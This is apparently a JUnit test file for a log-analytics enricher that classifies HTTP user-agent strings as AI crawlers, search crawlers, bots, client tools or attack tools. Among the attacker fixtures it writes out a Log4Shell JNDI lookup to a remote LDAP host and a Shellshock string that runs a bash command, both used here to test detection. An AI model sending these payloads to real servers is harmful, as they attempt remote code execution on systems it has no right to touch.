package io.sluice.loganalytics.enrich;

import static org.assertj.core.api.Assertions.assertThat;

import io.sluice.loganalytics.event.Agent;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class KnownAgentsTest {
  private static final KnownAgents SHIPPED = KnownAgents.shipped();

  /** User agents as their senders document them. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          ai-crawler | GPTBot | 1.2 | Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)
          ai-crawler | OAI-SearchBot | 1.0 | Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot)
          ai-crawler | ChatGPT-User | 1.0 | Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot
          ai-crawler | ClaudeBot | 1.0 | Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)
          ai-crawler | PerplexityBot | 1.0 | Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)
          ai-crawler | CCBot | 2.0 | CCBot/2.0 (https://commoncrawl.org/faq/)
          ai-crawler | Bytespider | | Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)
          ai-crawler | Amazonbot | 0.1 | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_10_1) AppleWebKit/600.2.5 (KHTML, like Gecko) Version/8.0.2 Safari/600.2.5 (Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot)
          ai-crawler | Meta-ExternalAgent | 1.1 | meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)
          ai-crawler | GoogleOther | | Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.0.0 Mobile Safari/537.36 (compatible; GoogleOther)
          ai-crawler | Applebot-Extended | 0.1 | Mozilla/5.0 (compatible; Applebot-Extended/0.1)
          search-crawler | Applebot | 0.1 | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)
          search-crawler | Googlebot | 2.1 | Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
          search-crawler | Googlebot-Image | 1.0 | Googlebot-Image/1.0
          search-crawler | bingbot | 2.0 | Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)
          search-crawler | YandexBot | 3.0 | Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)
          search-crawler | Baiduspider | 2.0 | Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)
          search-crawler | DuckDuckBot | 1.1 | DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)
          search-crawler | Yahoo! Slurp | | Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)
          bot | MJ12bot | 1.4.8 | Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)
          bot | AhrefsBot | 7.0 | Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)
          tool | curl | 8.5.0 | curl/8.5.0
          tool | python-requests | 2.31.0 | python-requests/2.31.0
          tool | Go-http-client | 1.1 | Go-http-client/1.1
          tool | Java | 17.0.10 | Java/17.0.10
          tool | Apache-HttpClient | 4.5.14 | Apache-HttpClient/4.5.14 (Java/17.0.10)
          tool | okhttp | 4.12.0 | okhttp/4.12.0
          tool | node-fetch | | node-fetch
          tool | PostmanRuntime | 7.37.3 | PostmanRuntime/7.37.3
          attacker | sqlmap | 1.8.3 | sqlmap/1.8.3#stable (https://sqlmap.org)
          attacker | Nikto | 2.5.0 | Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)
          attacker | Nmap | | Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
          attacker | zgrab | 0.x | Mozilla/5.0 zgrab/0.x
          attacker | Nuclei | | Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
          attacker | ffuf | | Fuzz Faster U Fool v2.1.0
          attacker | Log4Shell | | ${jndi:ldap://203.0.113.5/a}
          attacker | Shellshock | | () { :; }; /bin/bash -c id
          """)
  void knowsItBySight(String label, String name, String version, String userAgent) {
    Agent agent = find(SHIPPED, userAgent);

    assertThat(agent).isNotNull();
    assertThat(agent.kind().label()).isEqualTo(label);
    assertThat(agent.name()).isEqualTo(name);
    String digits = version != null && version.endsWith(".x") ? "0.x" : version;
    assertThat(agent.version()).isEqualTo(digits);
    assertThat(find(SHIPPED, userAgent.toUpperCase(Locale.ROOT)).name()).isEqualTo(name);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "-",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0.0.0",
        "Mozilla/5.0 (Linux; Android 13; CUBOT X30) AppleWebKit/537.36",
        "NotGPTBotAtAll/1.0",
        "curling-club/1.0",
        "MyApp/1.0 okhttp/4.12.0",
        "JavaFX/8.0"
      })
  void knowsNothingOfOthers(String userAgent) {
    assertThat(find(SHIPPED, userAgent)).isNull();
  }

  @Test
  void prefersTheGraverClassThenTheLongerWord() {
    KnownAgents agents =
        KnownAgents.parse(
            List.of(
                "tool Fetch", "search-crawler Bot", "search-crawler Bot-Image", "attacker Scan"));

    assertThat(find(agents, "fetch bot").name()).isEqualTo("Bot");
    assertThat(find(agents, "bot bot-image/3").name()).isEqualTo("Bot-Image");
    assertThat(find(agents, "bot-image/3 scan").name()).isEqualTo("Scan");
  }

  @Test
  void readsNothingOutsideTheSlice() {
    byte[] text = "xcurl/8.5.0.1x".getBytes(StandardCharsets.UTF_8);

    Agent agent = SHIPPED.find(text, 1, text.length - 3);

    assertThat(agent.name()).isEqualTo("curl");
    assertThat(agent.version()).isEqualTo("8.5.0");
    assertThat(SHIPPED.find(text, 1, 3)).isNull();
  }

  private static Agent find(KnownAgents agents, String userAgent) {
    byte[] text = userAgent.getBytes(StandardCharsets.UTF_8);
    return agents.find(text, 0, text.length);
  }
}
